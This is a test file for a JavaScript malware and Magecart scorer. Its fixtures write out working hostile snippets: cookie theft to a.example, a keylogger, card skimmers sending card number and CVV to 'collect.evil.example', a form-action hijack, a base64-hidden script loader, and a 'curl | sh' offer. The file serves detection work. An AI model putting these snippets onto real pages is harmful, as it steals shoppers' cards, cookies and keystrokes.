import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { beautify } from './beautify.ts'
import { MALICIOUS_BELOW, type ScriptVerdict, scoreScript } from './index.ts'
import { MAX_SCORED_LENGTH, MAX_WHOLE_LENGTH } from './limits.ts'
import { BOUNDED_WORK } from './bounded-work.cases.ts'
import { DECODED_PAGE_CASES, HONEST_DECODED_PAGES } from './decoded-pages.cases.ts'
import { ERROR_OBJECT_CASES, HONEST_ERROR_OBJECTS } from './error-objects.cases.ts'
import { GUARDED_CASES, HONEST_GUARDED_CASES } from './guarded-scripts.cases.ts'
import { HIDDEN_FRAME_CASES, HONEST_FRAME_CASES } from './hidden-frames.cases.ts'
import { HIDDEN_PATH_CASES, HONEST_HIDDEN_PATHS } from './hidden-paths.cases.ts'
import { HONEST_CASES } from './honest-scripts.cases.ts'
import { HONEST_LIBRARY_CASES, LIBRARY_CASES } from './library-scripts.cases.ts'
import { HONEST_OWN_MESSAGES, OWN_MESSAGE_CASES } from './own-messages.cases.ts'
import { PROBED_CASES, PROBED_HONEST_CASES } from './probed-scripts.cases.ts'
import { SCRIPT_CASES, SKIMMER } from './score-script.cases.ts'
import { HONEST_VALUE_PATH_CASES, VALUE_PATH_CASES } from './value-paths.cases.ts'

const NAMES = [
  'js_integrity_score',
  'obfuscation_score',
  'dataflow_score',
  'malware_score',
  'cryptomining_score',
  'magecart_score',
] as const

/** All six scores, or none and the reason. */
function expectWhole({ scores, unscored, reasons }: ScriptVerdict): void {
  if (scores === null) {
    expect(reasons).toEqual([])
    return expect(['long', 'deep', 'none']).toContain(unscored)
  }
  for (const name of NAMES) {
    const score = scores[name]
    expect(Number.isInteger(score) && Number(score) >= 1 && Number(score) <= 99, `${name}: ${score}`).toBe(
      true,
    )
  }
  for (const { score, found } of reasons) {
    expect(NAMES).toContain(score)
    expect((found ?? '').length).toBeLessThanOrEqual(300)
  }
}

test.each([
  ...SCRIPT_CASES,
  ...PROBED_CASES,
  ...VALUE_PATH_CASES,
  ...GUARDED_CASES,
  ...DECODED_PAGE_CASES,
  ...HIDDEN_FRAME_CASES,
  ...LIBRARY_CASES,
  ...OWN_MESSAGE_CASES,
  ...HIDDEN_PATH_CASES,
  ...ERROR_OBJECT_CASES,
])('$name', ({ source, head: scriptClass }) => {
  const verdict = scoreScript(source)
  expectWhole(verdict)
  const integrity = verdict.scores?.js_integrity_score ?? 0
  if (scriptClass === null) {
    expect(integrity).toBeGreaterThanOrEqual(MALICIOUS_BELOW)
    expect(verdict.reasons.filter(({ kind }) => kind === 'rule')).toEqual([])
  } else {
    expect(verdict.unscored).toBeNull()
    expect(integrity).toBeLessThan(MALICIOUS_BELOW)
    expect(verdict.scores?.[`${scriptClass}_score`]).toBe(integrity)
    // Every verdict has a reason.
    expect(verdict.reasons.some(({ score }) => score === `${scriptClass}_score`)).toBe(true)
  }
})

test.each([
  ...HONEST_CASES,
  ...PROBED_HONEST_CASES,
  ...HONEST_VALUE_PATH_CASES,
  ...HONEST_GUARDED_CASES,
  ...HONEST_DECODED_PAGES,
  ...HONEST_FRAME_CASES,
  ...HONEST_LIBRARY_CASES,
  ...HONEST_OWN_MESSAGES,
  ...HONEST_HIDDEN_PATHS,
  ...HONEST_ERROR_OBJECTS,
])('honest: $name', ({ source, sign }) => {
  const { scores, reasons } = scoreScript(source)
  expect(scores?.js_integrity_score ?? 0).toBeGreaterThanOrEqual(MALICIOUS_BELOW)
  expect(reasons.filter(({ kind }) => kind === 'rule')).toEqual([])
  expect(reasons.filter(({ kind }) => kind === 'sign').map(({ name }) => name)).toEqual(
    sign === undefined ? [] : [sign],
  )
})

const LIBRARY = `;(function(a){a.plus=function(b,c){if(b>c){return b+c}return c-b};a.each=function(b,c){for(var i=0;i<b.length;i++){c(b[i],i)}};a.name='plus'})(window.lib={});\n`

test.each<[string, before: string, behind?: string]>([
  ['a comment of markup', '<!-- x\n'],
  ['a comment of markup around it', '<!--\n', '\n-->'],
  ['a comment of markup before a line of its own', '<!--\n', '\n//-->'],
  ['a mark of byte order', '\uFEFF'],
  ['a pattern with flags of its own', '/(?i:a)b/;'],
  ['a pattern with a group of two', '/(?<a>x)|(?<a>y)/;'],
  ['a pattern with sets', '/[\\p{L}--[a-z]]/v;'],
  ['comments to the limit', '/*', `*/${'/*x*/\n'.repeat(60_000)}`],
  ['a long comment', `/*${'x'.repeat(MAX_SCORED_LENGTH)}*/`],
  ['spaces', ' \n'.repeat(MAX_SCORED_LENGTH)],
  ['spaces behind', '', '\n'.repeat(MAX_SCORED_LENGTH)],
  ['a long string', `var s='${'x'.repeat(MAX_WHOLE_LENGTH)}';`],
  ['a library of two megabytes', LIBRARY.repeat(2e6 / LIBRARY.length)],
  ['a library of two megabytes behind it', '', LIBRARY.repeat(2e6 / LIBRARY.length)],
  ['a text that would have been markup', `'<!-- <div>';`],
])('the scorer cannot be disabled by %s', (_, before, behind = '') => {
  const source = before === '/*' ? `/*x${behind}${SKIMMER}` : `${before}${SKIMMER}${behind}`
  expect(scoreScript(source).scores?.magecart_score ?? 99).toBeLessThan(MALICIOUS_BELOW)
})

test.each([
  ['blocks', '{', '}'],
  ['parentheses', '(', ')'],
  ['branches', 'if(a){', '}'],
  ['functions', '!function(){', '}()'],
])('content within many %s is analyzed', (_, open, close) => {
  const depth = 240
  const middle = open === '(' ? `function(){${SKIMMER}}()` : SKIMMER
  const source = open.repeat(depth) + middle + close.repeat(depth)
  expect(scoreScript(source).scores?.js_integrity_score ?? 99).toBeLessThan(MALICIOUS_BELOW)
})

test.each<[string, string, unscored: 'deep' | 'none']>([
  ['parentheses', `${'('.repeat(50_000)}1${')'.repeat(50_000)};`, 'deep'],
  ['branches', `if(0);${'else if(0);'.repeat(25_000)}`, 'deep'],
  ['blocks', `${'{'.repeat(50_000)}${'}'.repeat(50_000)}var a=1`, 'deep'],
  ['a page without scripts', '<!doctype html><title>404</title><p>Not found</p>', 'none'],
  ['a comment and nothing else', '<!-- gone -->', 'none'],
  ['words', 'Not Found', 'none'],
  ['half a script', 'function a(){ return [', 'none'],
  ['a style', 'a { color: red }', 'none'],
])('unparsable text is not therefore harmless: %s', (_, source, unscored) => {
  expect(scoreScript(source)).toEqual({ scores: null, unscored, reasons: [] })
})

test.each([
  ['parentheses', `${'('.repeat(50_000)}1${')'.repeat(50_000)};`],
  ['branches', `if(0);${'else if(0);'.repeat(25_000)}`],
])('a section behind unparsable text is found: %s', (_, before) => {
  expect(scoreScript(before + SKIMMER).scores?.magecart_score).toBeLessThan(MALICIOUS_BELOW)
})

test('the visible parts of unparsable text can be enough', () => {
  expect(scoreScript(`unescape("%u9090%u9090%u9090"); }`).scores?.malware_score).toBe(4)
})

test('a malicious verdict names the rule and what it found', () => {
  const { reasons } = scoreScript(`new Image().src='//a.example/?c='+document.cookie`)
  expect(reasons.find(({ kind }) => kind === 'rule')).toEqual({
    score: 'malware_score',
    kind: 'rule',
    name: 'cookie-leaves',
    description: 'sends all cookies to another host',
    found: 'cookie to //a.example/?c= by image',
    weight: null,
  })
})

describe('a session recorder', () => {
  const recorder = (value: string, more = ''): string =>
    `(function(){var q=[];new MutationObserver(function(m){q.push({t:Date.now(),n:m.length})}).observe(document,{subtree:true});['mousemove','scroll','click'].forEach(function(k){addEventListener(k,function(e){q.push({t:Date.now(),k:k,x:e.clientX})})});addEventListener('input',function(e){var n=e.target;q.push({t:Date.now(),v:${value}})},true);${more}setInterval(function(){if(q.length)navigator.sendBeacon('https://in.replay.example/v1',JSON.stringify(q.splice(0)))},5000)})()`
  const MASKED = `n.type==='password'||/cc-|card/.test(n.autocomplete)?'*'.repeat(n.value.length):n.value`

  test('is recognized and not condemned if it leaves out secrets', () => {
    const { scores, reasons } = scoreScript(recorder(MASKED))
    expect(reasons.find(({ name }) => name === 'session-recorder')).toMatchObject({
      score: 'dataflow_score',
      kind: 'practice',
      found: expect.stringContaining('https://in.replay.example/v1'),
    })
    expect(scores?.js_integrity_score ?? 0).toBeGreaterThanOrEqual(MALICIOUS_BELOW)
    expect(reasons.filter(({ kind }) => kind === 'rule')).toEqual([])
  })

  test.each([
    ['leaves nothing out', recorder('n.value')],
    [
      'asks for the card itself',
      recorder(
        MASKED,
        `setInterval(function(){new Image().src='https://in.replay.example/i?c='+document.querySelector('#cc_number').value},900);`,
      ),
    ],
    ['hides from tools', recorder(MASKED, 'if(outerWidth-innerWidth>160)return;')],
  ])('is not recognized if it %s', (_, source) => {
    expect(scoreScript(source).reasons.map(({ name }) => name)).not.toContain('session-recorder')
  })

  test('that reads the card itself is condemned', () => {
    const requests = `document.querySelector('#pay').onclick=function(){new Image().src='https://in.replay.example/i?c='+btoa(document.querySelector('#cc_number').value)};`
    expect(scoreScript(recorder(MASKED, requests)).scores?.js_integrity_score).toBeLessThan(MALICIOUS_BELOW)
  })
})

const DEAD_CODE: readonly (readonly [string, (hostile: string) => string])[] = [
  ['statements before it', (hostile) => `${'var a=1;a=a*2+1;if(a>1e9){a=0}'.repeat(300)}${hostile}`],
  [
    'functions before it',
    (hostile) =>
      Array.from({ length: 400 }, (_, i) => `function f${i}(a,b){return a*${i}+b-Math.max(a,b)}`).join('\n') +
      `\n${hostile}`,
  ],
  [
    'functions around it, in one statement',
    (hostile) =>
      `(function(){${Array.from({ length: 400 }, (_, i) => `var f${i}=function(a){return a.concat([${i}])};`).join('')}${hostile};${Array.from({ length: 200 }, (_, i) => `function g${i}(a){return a-${i}}`).join('')}})()`,
  ],
]
const SHORT_HOSTILES: readonly (readonly [string, string])[] = [
  ['all cookies', `new Image().src='//a.example/?c='+document.cookie`],
  [
    'keys',
    `var k='';document.onkeypress=function(e){k+=e.key;fetch('https://a.example/k',{method:'POST',body:k})}`,
  ],
  ['fields of a checkout', SKIMMER],
  [
    'a form given another address',
    `var f=document.forms[0];f.onsubmit=function(){var a=this.action;this.action='https://p.example.net/';setTimeout(function(){f.action=a},9)}`,
  ],
  [
    'a loader that hides its host',
    `if(document.referrer&&/Windows/.test(navigator.userAgent)){var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9nYXRlLmV4YW1wbGUubmV0L3guanM=');document.head.appendChild(s)}`,
  ],
]
test.each(
  DEAD_CODE.flatMap(([padding, pad]) =>
    SHORT_HOSTILES.map(([name, hostile]) => [name, padding, pad(hostile)] as const),
  ),
)('%s: not hidden by %s', (_, __, source) => {
  expect(scoreScript(source).scores?.js_integrity_score).toBeLessThan(MALICIOUS_BELOW)
})

test.each(DEAD_CODE)('%s: no single part is hostile', (_, pad) => {
  const { scores, reasons } = scoreScript(pad('document.title="x"'))
  expect(scores?.js_integrity_score ?? 0).toBeGreaterThanOrEqual(MALICIOUS_BELOW)
  expect(reasons.filter(({ kind }) => kind === 'rule' || kind === 'sign')).toEqual([])
})

test('a flow in minified code has its place in the beautified source', () => {
  const minified = `${'var a=1;'.repeat(60)}function f(){var n=document.getElementById('cc_number').value;new Image().src='https://stat.example.net/i.gif?d='+btoa(n)}document.querySelector('#pay').onclick=f`
  const place = 'on click at line 1, column 543 (line 63, column 7 of the beautified source)'
  expect(beautify(minified)?.[62]).toContain('new Image().src')
  expect(scoreScript(minified).reasons).toContainEqual(
    expect.objectContaining({ kind: 'flow', description: expect.stringContaining(place) }),
  )
})

test.each<[string, before: string, line: number, column: number]>([
  ['in a script of its own', '', 2, 3],
  ['behind a library, where its section is the reason', LIBRARY.repeat(40), 42, 3],
  ['behind two megabytes', LIBRARY.repeat(13_000), 13_002, 3],
])('the path of a flow has the place where the data leaves: %s', (_, before, line, column) => {
  const source = `${before}document.forms[0].onsubmit=function(){\n  fetch('https://x.example/?d='+document.querySelector('#cc_number').value,{mode:'no-cors'})};`
  expect(scoreScript(source).reasons).toContainEqual(
    expect.objectContaining({
      kind: 'flow',
      name: 'card to fetch',
      description: expect.stringContaining(`by fetch on submit at line ${line}, column ${column}`),
    }),
  )
})

test.each<[name: string, step: string, found: RegExp]>([
  ['of several lines', 'v+=1;\n', /^(?:lines \d+ to \d+, ){8}and \d+ more$/],
  ['in one line', 'v+=1;', /^(?:line 1 from column \d+, ){8}and \d+ more$/],
])('which sections of a long script were not analyzed is said, and is suggestive: %s', (_, step, found) => {
  const sends = (i: number): string =>
    `function f${i}(){var v=document.querySelector('#a${i}').value;if(v){${step.repeat(300)}fetch('/own/${i}?v='+v)}}`
  const { scores, reasons } = scoreScript(Array.from({ length: 300 }, (_, i) => sends(i)).join(''))
  expect(reasons.find(({ name }) => name === 'not-analyzed')).toMatchObject({
    kind: 'sign',
    description: expect.stringMatching(/^\d+ more sections/),
    found: expect.stringMatching(found),
  })
  expect(scores?.js_integrity_score).toBeGreaterThanOrEqual(MALICIOUS_BELOW)
})

test('an offer of commands is named, unless it leads elsewhere', () => {
  const offer = (more: string): string =>
    `document.querySelector('.install button').onclick=function(){navigator.clipboard.writeText('curl -fsSL https://get.tool.example/install.sh | sh');${more}}`
  const namesOf = (source: string): readonly string[] => scoreScript(source).reasons.map(({ name }) => name)
  expect(namesOf(offer(''))).toContain('command-offer')
  expect(namesOf(offer(`location.href='/docs'`))).toContain('command-offer')
  expect(namesOf(offer(`location.href='https://gate.example.net/'`))).not.toContain('command-offer')
  expect(namesOf(offer('') + ';for(;;)a')).not.toContain('command-offer')
})

test('data sent to an own host does not leave', () => {
  const source = `fetch('https://api.shop.example/card',{method:'POST',body:document.querySelector('#cc_number').value})`
  expect(scoreScript(source, { ownHosts: ['shop.example'] }).scores?.dataflow_score).toBe(99)
  expect(scoreScript(source).scores?.dataflow_score).toBeLessThan(10)
  // A host with only the same ending is another one.
  expect(scoreScript(source, { ownHosts: ['op.example'] }).scores?.dataflow_score).toBeLessThan(10)
})

test.each([
  ['at the limit', MAX_SCORED_LENGTH, null],
  ['one past it', MAX_SCORED_LENGTH + 1, 'long'],
])('a script %s', (_, length, unscored) => {
  const verdict = scoreScript(`a='${'x'.repeat(length - 4)}'`)
  expectWhole(verdict)
  expect(verdict.unscored).toBe(unscored)
})

/**
 * CPU time of scripts that keep the scorer as busy as they can, in seconds. On an idle machine they take less than 2; beside other tests on a slow
 * machine they took 3.5. What is not counted as steps takes minutes.
 */
const MAX_SECONDS = 10

test.each(BOUNDED_WORK)('%s ends', (_, source) => {
  const start = process.cpuUsage()
  expectWhole(scoreScript(source))
  const { user, system } = process.cpuUsage(start)
  expect((user + system) / 1e6).toBeLessThan(MAX_SECONDS)
})

const CARD_SKIMMER = `document.querySelector('form').addEventListener('submit',function(){var n=document.querySelector('#card_number').value,c=document.querySelector('#cvv').value;new Image().src='https://collect.evil.example/g.php?d='+btoa(n+'|'+c)})`

/** Library code of 360 KB in one line. */
const LONG_LINE = Array.from({ length: 9000 }, (_, i) => `root.f${i}=function(a,b){return a+b*${i}};`).join(
  '',
)

test.each([
  ['a template within a template', 'var q=`${a?`x://${b}`:1}`;'],
  ['a pattern behind a condition', 'if(a)/[/*]/.test(b);'],
  ['a division behind braces', 'a={}/1;/* /*/;'],
])('what looks like a comment in a long line hides nothing: %s', (_, code) => {
  for (const source of [code + LONG_LINE + CARD_SKIMMER, `${code}${LONG_LINE}${CARD_SKIMMER}/*[*/`])
    expect(scoreScript(source).scores?.js_integrity_score).toBeLessThan(MALICIOUS_BELOW)
})

test('what looks like a template in a comment of a long script hides no part of a text', () => {
  const sent = CARD_SKIMMER.replace(
    /new Image.*$/u,
    'fetch(`https://collect.evil.example/g.php?\n${btoa(n+c)}`)})',
  )
  const code = `var a=1,x={}/a//\`\n${sent}`
  const source = `/*${'x'.repeat(310_000)}*/${code}`
  expect(scoreScript(source).scores?.js_integrity_score).toBeLessThan(MALICIOUS_BELOW)
})

test.each([
  ['match', `'${'a'.repeat(250_000)}'.match(/a+b/);`],
  ['replace', `'${'a'.repeat(250_000)}'.replace(/a*b/g,'');`],
  ['split', `'${'a'.repeat(250_000)}'.split(/a+$/);`],
])('a pattern that scans its text again and again hides nothing: %s', (_, pattern) => {
  const { scores } = scoreScript(pattern + CARD_SKIMMER)
  expect(scores?.js_integrity_score).toBeLessThan(MALICIOUS_BELOW)
})

test.each([
  ['one endless loop', 'for(;;){}'],
  ['two endless loops', 'for(;;){}for(;;){}'],
  ['eight endless loops', 'for(;;){}'.repeat(8)],
  ['many calls, and an endless loop', 'var a=[];for(var i=0;i<20000;i++)a.push(i);for(;;){}'],
])('statements that take all steps hide nothing behind them: %s', (_, before) => {
  const { scores } = scoreScript(before + CARD_SKIMMER)
  expect(scores?.js_integrity_score).toBeLessThan(MALICIOUS_BELOW)
})

test('any text gets complete scores', () => {
  const chunks = fc.constantFrom(
    'var a=',
    'function(){',
    '}',
    '(',
    ')',
    '[',
    ']',
    'eval',
    'atob',
    '"x"',
    '.src=',
    'document',
    '.cookie',
    '+',
    ';',
    'if(',
    'for(;;)',
    '<script>',
    'new ',
    'this',
    '`${',
    '`',
    '=>',
    '%41',
    '\\x41',
    'a',
    '1',
    ',',
  )
  const strings = fc.oneof(
    fc.string({ maxLength: 300 }),
    fc.array(chunks, { maxLength: 60 }).map((parts) => parts.join('')),
  )
  fc.assert(
    fc.property(strings, (text) => {
      expectWhole(scoreScript(text))
    }),
    { numRuns: 300 },
  )
})

test('the same text gets the same verdict', () => {
  for (const { source } of SCRIPT_CASES) expect(scoreScript(source)).toEqual(scoreScript(source))
})
